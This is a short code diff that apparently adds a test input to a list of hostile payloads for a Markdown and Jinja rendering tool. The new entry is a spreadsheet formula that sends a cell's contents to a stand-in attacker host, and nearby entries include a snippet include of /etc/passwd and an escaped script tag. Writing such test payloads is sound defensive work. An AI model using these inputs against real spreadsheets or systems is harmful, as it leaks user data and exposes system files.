@@ -54,6 +54,8 @@ PAYLOADS: tuple[Payload, ...] = (
     Payload("jinja-raw", "{% raw %}{# comment #}"),
     Payload("snippet", '--8<-- "/etc/passwd"'),
     Payload("line-separators", "one\u2028two\u2029three"),
+    # Text a spreadsheet would run as a formula when the CSV tables are opened (OWASP CSV injection).
+    Payload("spreadsheet-formula", '=HYPERLINK("https://evil.example/?leak="&A1,"click") +1 -1 @SUM(A1)'),
     Payload("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;"),
     # A character outside the Basic Multilingual Plane (an emoji) next to
     # Markdown link, image and attr_list syntax.
